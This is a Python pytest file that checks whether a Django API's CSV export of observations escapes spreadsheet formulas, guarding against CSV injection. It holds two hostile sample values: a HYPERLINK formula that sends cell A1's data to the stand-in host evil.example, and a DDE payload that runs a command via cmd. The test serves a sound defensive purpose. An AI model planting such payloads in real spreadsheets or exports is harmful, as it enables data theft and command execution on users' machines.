"""The observations CSV export cannot carry spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

import pytest

from sdg87.api.tests.fixtures import ApiRows
from sdg87.indicators.models import Observation

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Click for details")'
DDE = "=cmd|'/C calc'!A0"  # fits the 40-character unit column (PostgreSQL enforces it)


def test_csv_export_escapes_formula_text_but_not_negative_values(client, api_rows: ApiRows):
    """A unit and a note starting with '=' are written with a leading quote; a negative
    value stays a plain negative number."""
    obs = Observation.objects.filter(series=api_rows.series_b).get()
    Observation.objects.filter(pk=obs.pk).update(unit=DDE, note=HYPERLINK, value=-12.5)
    response = client.get("/api/v1/observations?series=TEST_B&release=all&format=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8")
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["unit"] == "'" + DDE
    assert row["note"] == "'" + HYPERLINK
    assert row["value"] == "-12.5"
    assert row["series"] == "TEST_B" and row["year"] == "2020"
